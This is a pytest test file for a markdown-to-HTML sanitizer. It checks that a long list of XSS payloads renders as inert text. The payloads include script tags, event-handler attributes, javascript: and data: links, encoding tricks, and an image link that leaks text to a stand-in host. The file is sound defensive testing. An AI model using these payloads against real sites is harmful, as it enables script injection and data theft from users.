"""Markdown that tries to be more than text: no script, no picture, no style, no address but that of a link."""

from __future__ import annotations

import sys
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sessions.web.markdown import LONGEST, html_of

ALLOWED: dict[str, set[str]] = {
    **{
        tag: set()
        for tag in [
            "blockquote",
            "br",
            "del",
            "em",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "p",
            "pre",
            "s",
            "strong",
            "table",
            "tbody",
            "thead",
            "tr",
            "ul",
        ]
    },
    "a": {"href", "title", "rel", "target"},
    "code": {"class"},
    "ol": {"start"},
    "td": {"align"},
    "th": {"align"},
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//e.x/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>1</script>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi xlink:href='javascript:1'>x</mi></math>",
    "<iframe src=javascript:alert(1)>",
    "<object data=//e.x>",
    "<embed src=//e.x>",
    "<base href=//e.x/>",
    "<link rel=stylesheet href=//e.x>",
    "<meta http-equiv=refresh content='0;url=//e.x'>",
    "<style>*{color:red}</style>",
    "<p style='background:url(//e.x)'>x</p>",
    "<form action=//e.x><input name=a><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=1>]]>",
    "<?php ?><img src=x>",
    "<noscript><p title='</noscript><img src=x onerror=1>'>",
    "<template><img src=x onerror=1></template>",
    "<a href='http://x' onclick='alert(1)'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=1>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](  javascript:1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:http://x)",
    "[x](//e.x/y)",
    "[x](/api/sessions)",
    "[x](\\\\e.x)",
    "[x](http:e.x)",
    "[x](ws://e.x)",
    "[x](ftp://e.x)",
    '[x](http://e.x "a\\" onmouseover=\\"alert(1)")',
    "[x](http://e.x'onmouseover=alert(1))",
    '[x](<http://e.x" onclick="1>)',
    "![x](http://e.x/leak?words)",
    "![x](data:image/svg+xml,<svg onload=1>)",
    "[![x](http://e.x/a.png)](javascript:1)",
    "![x][r]\n\n[r]: http://e.x/a.png",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<http://e.x/onclick=1>",
    "<data:text/html,x>",
    "http://e.x/auto",
    '```js" onload="alert(1)\n1\n```',
    "```<img src=x onerror=1>\n1\n```",
    "~~~html class=x style=y\n<script>\n~~~",
    "`<img src=x onerror=1>`",
    "    <script>alert(1)</script>",
    "|a|\n|:-:|\n|<img src=x onerror=1>|",
    "|a|\n|-|\n|[x](javascript:1)|",
    "| a | b |\n|---|:-: onclick=1|\n| 1 | 2 |",
    "1. a\n<script>",
    "999999999999. a",
    "# <img src=x onerror=1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=1&#62;",
    "\\<script>alert(1)\\</script>",
    "*<b onmouseover=1>*",
    "~~<u>x</u>~~",
    "\x00<script>",
    "\ufeff<script>",
    "<\u200bscript>",
    "\u202e[x](http://e.x)",
    "<a\x00href=javascript:1>x</a>",
]


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert name in ALLOWED[tag], (tag, name)
            if name == "href":
                assert value is not None
                assert value.lower().startswith(("http://", "https://", "mailto:")), value
                self.links.append(value)
            elif name == "class":
                assert value is not None
                assert value.startswith("language-")
                assert not set(value) & set("<>\"' ")
            elif name == "align":
                assert value in ("left", "right", "center")
        if tag == "a" and dict(attrs).get("href"):
            assert "noopener" in (dict(attrs)["rel"] or "")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment  # type: ignore[assignment]


def _checked(text: str) -> list[str]:
    html = html_of(text)
    assert html is not None
    seen = _Seen()
    seen.feed(html)
    seen.close()
    return seen.links


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_text(payload: str) -> None:
    for text in (payload, f"words {payload} words", f"- {payload}\n- {payload}", f"> {payload}", f"**{payload}**"):
        for link in _checked(text):
            assert "javascript" not in link.lower()


@given(st.lists(st.sampled_from([*PAYLOADS, "[", "](", ")", "`", "\n", "|", "<", ">", '"', "'", "*", "&", " "])))
def test_pieces_of_payloads_stay_text(pieces: list[str]) -> None:
    _checked("".join(pieces))


def test_what_people_write_is_shown() -> None:
    text = "# Title\n\nA **bold** [link](https://a.b/c?d=e#f 'hint'), `code`\n\n1. one\n2. two\n\n"
    text += "```python\nx < 1\n```\n\n| a |\n|-:|\n| 1 |"
    html = html_of(text)
    assert html is not None
    for part in (
        "<h1>Title</h1>", "<strong>bold</strong>", 'href="https://a.b/c?d=e#f"', 'title="hint"', 'target="_blank"',
        "<code>code</code>", "<ol>", '<code class="language-python">x &lt; 1', '<td align="right">1</td>',
    ):  # fmt: skip
        assert part in html, part
    assert _checked(text) == ["https://a.b/c?d=e#f"]
    assert 'class="language-c++"' in str(html_of("```c++\n1\n```"))


def test_a_longer_text_is_shown_as_it_is() -> None:
    assert html_of("a" * LONGEST) is not None
    assert html_of("a" * (LONGEST + 1)) is None


@pytest.mark.parametrize(
    "piece",
    ["[", "]", "![", "*", "_*", "*a ", "`", "~~a", ">", "> ", "- ", "[a](", "<", "<a ", "&", "\\", "|a", "[a]: b\n",
     "1. ", "\t", "[![]()", "**a __b ", "http://a ", "'\"", "|a|b|\n|-|-|\n", "# ", "```\n", "a\n=\n"],
)  # fmt: skip
def test_no_text_takes_much_more_work_than_its_length(piece: str, unmeasured: None) -> None:
    """Four times the text is some four times the work, not sixteen: in lines of Python, which no other load changes."""

    def lines(characters: int) -> int:
        text, count = (piece * characters)[:characters], 0

        def trace(frame: Any, event: str, value: Any) -> Any:
            nonlocal count
            count += event == "line"
            return trace

        sys.settrace(trace)
        try:
            html_of(text)
        finally:
            sys.settrace(None)
        return count

    quarter, whole = lines(2_500), lines(10_000)
    assert 0 < whole < 8 * max(quarter, 1_000), (quarter, whole)
